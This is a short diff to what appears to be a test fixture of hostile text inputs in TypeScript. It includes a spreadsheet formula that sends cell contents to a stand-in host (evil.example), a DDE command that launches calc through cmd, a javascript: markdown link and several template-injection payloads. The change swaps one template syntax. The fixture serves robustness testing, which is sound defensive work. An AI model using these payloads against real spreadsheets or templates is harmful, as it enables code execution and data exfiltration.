@@ -17,7 +17,7 @@ export const HOSTILE_TEXTS: Record<string, string> = {
   formula: '=HYPERLINK("http://evil.example/"&A1,"open")',
   command: "@SUM(1+1)*cmd|' /C calc'!A0",
   markdown: '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
-  template: '{{constructor.constructor("chaosRan=1")()}} ${7*7} %s %n',
+  template: '{{constructor.constructor("chaosRan=1")()}} <%= 7*7 %> %s %n',
   combining: `Z${'\u0351\u0352\u0353'.repeat(60)}algo`,
   emoji: '👩‍👩‍👧‍👦'.repeat(300),
   endless: 'Wwwww'.repeat(20_000),
